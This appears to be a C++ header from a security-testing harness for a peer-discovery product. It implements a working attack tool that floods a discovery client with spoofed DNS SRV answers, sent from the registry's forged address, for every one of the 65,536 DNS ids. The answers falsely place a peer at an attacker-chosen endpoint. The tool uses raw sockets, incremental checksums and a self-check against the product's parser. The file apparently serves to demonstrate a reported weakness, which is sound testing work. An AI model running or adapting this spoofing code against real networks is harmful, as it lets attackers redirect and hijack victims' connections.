// `wgp_attack forge-srv`: forged SRV answers "the peer with `key` is at
// `forged`" for EVERY DNS id 0..65535, from a forged source (the registry's
// ip:port) to a target (a discovery client's NAT mapping), sweep after sweep,
// as fast as the raw socket takes them. A client that asked its registry in
// plain DNS from a fixed port has only the 16-bit id to tell our answer from
// the registry's, and one sweep covers them all (issue 10, "What was found" 1).
//
// Every packet is the same answer with another id: the UDP checksum is the
// sum over the id-0 datagram plus the id (the id is the first 16-bit word of
// the payload, at an even offset), the IP identification is the id too.
// Before sending, sample packets are checked: both checksums verify, and the
// product's own answer parser (dnssd::parse_srv_response, what discovery used
// on plain answers) accepts the payload as "kOk, `key` at `forged`" for its id.
#pragma once

#include <algorithm>
#include <chrono>
#include <cmath>
#include <string>
#include <vector>

#include "attack_common.h"
#include "attack_dns.h"
#include "attack_raw.h"
#include "dnssd/discovery_query.h"

namespace wgp::attack {

constexpr uint64_t kIdSpace = 65536;

struct ForgePlan {
  Endpoint from;    // forged source: the registry's endpoint
  Endpoint target;  // the victim's endpoint (its NAT mapping)
  PublicKey key{};  // the peer the answers are about
  std::string zone;
  Endpoint forged;  // where the answers say the peer is
  uint64_t rounds = 1;
  double seconds = 5;
};

class SrvForger {
 public:
  explicit SrvForger(const ForgePlan& plan) : plan_(plan) {
    payload_ = forged_srv_answer(0, plan.key, plan.zone, plan.forged);
    build_ipv4_udp(plan.from, plan.target, payload_, 0, template_);
    // The UDP checksum's sum without its own field (set to 0) and id 0.
    std::vector<uint8_t> udp(template_.begin() + kIpv4HeaderSize, template_.end());
    udp[6] = udp[7] = 0;
    base_sum_ = checksum_add(udp, pseudo_header_sum(plan.from.address, plan.target.address,
                                                    kIpProtoUdp, uint32_t(udp.size())));
  }

  // Packet `id` into `out` (which keeps its capacity across calls).
  void fill(uint16_t id, std::vector<uint8_t>& out) const {
    out = template_;
    uint8_t* ip = out.data();
    store_be16(ip + 4, id);
    ipv4_set_header_checksum(MutableByteView(out.data(), kIpv4HeaderSize));
    uint8_t* udp = ip + kIpv4HeaderSize;
    store_be16(udp + kUdpHeaderSize, id);
    uint16_t check = checksum_finish(uint64_t(base_sum_) + id);
    store_be16(udp + 6, check == 0 ? 0xffff : check);
  }

  // Throws unless sample packets verify (checksums) and parse as the intended lie.
  void self_check() const {
    std::vector<uint8_t> p;
    for (uint32_t id : {0u, 1u, 0x1234u, 0x8000u, 0xfffeu, 0xffffu}) {
      fill(uint16_t(id), p);
      if (!ipv4_udp_checksums_ok(p))
        throw std::logic_error("self-check: bad checksum for id " + std::to_string(id));
      ByteView dns = ByteView(p).subspan(kIpUdpHeaders);
      auto answer = dnssd::parse_srv_response(dns, uint16_t(id), plan_.key, plan_.zone);
      if (answer.status != dnssd::AnswerStatus::kOk || !answer.peer ||
          answer.peer->endpoint != plan_.forged || answer.peer->key != plan_.key)
        throw std::logic_error("self-check: the forged answer does not parse as intended");
    }
  }

  size_t answer_size() const { return payload_.size(); }

  // Sweeps every id, plan.rounds times or until plan.seconds pass (both
  // capped), and prints the counts.
  void run() {
    RawSender sender;
    std::vector<std::vector<uint8_t>> batch(RawSender::kBatch);
    uint64_t rounds = std::min<uint64_t>(plan_.rounds, kMaxPackets / kIdSpace);
    uint64_t sent = 0, done_rounds = 0;
    double fastest_ms = 0;
    Instant start = BootClock::now();
    auto deadline = start + std::chrono::microseconds(int64_t(plan_.seconds * 1e6));
    bool out_of_time = false;
    while (done_rounds < rounds && !out_of_time) {
      Instant sweep_start = BootClock::now();
      for (uint64_t first = 0; first < kIdSpace; first += RawSender::kBatch) {
        if (BootClock::now() >= deadline) {
          out_of_time = true;
          break;
        }
        size_t n = size_t(std::min<uint64_t>(RawSender::kBatch, kIdSpace - first));
        for (size_t i = 0; i < n; ++i) fill(uint16_t(first + i), batch[i]);
        sent += sender.send(batch, n);
      }
      if (out_of_time) break;
      ++done_rounds;
      double ms = std::chrono::duration<double, std::milli>(BootClock::now() - sweep_start).count();
      if (fastest_ms == 0 || ms < fastest_ms) fastest_ms = ms;
    }
    double took = std::chrono::duration<double>(BootClock::now() - start).count();
    std::printf(
        "rounds=%llu sent=%llu send_errors=%llu seconds=%.3f rate=%.0f sweep_ms=%.1f "
        "answer_bytes=%zu forged=%s from=%s target=%s\n",
        (unsigned long long)done_rounds, (unsigned long long)sent,
        (unsigned long long)sender.errors(), took, took > 0 ? double(sent) / took : 0.0, fastest_ms,
        payload_.size(), plan_.forged.to_string().c_str(), plan_.from.to_string().c_str(),
        plan_.target.to_string().c_str());
  }

 private:
  ForgePlan plan_;
  std::vector<uint8_t> payload_;
  std::vector<uint8_t> template_;
  uint32_t base_sum_ = 0;
};

}  // namespace wgp::attack
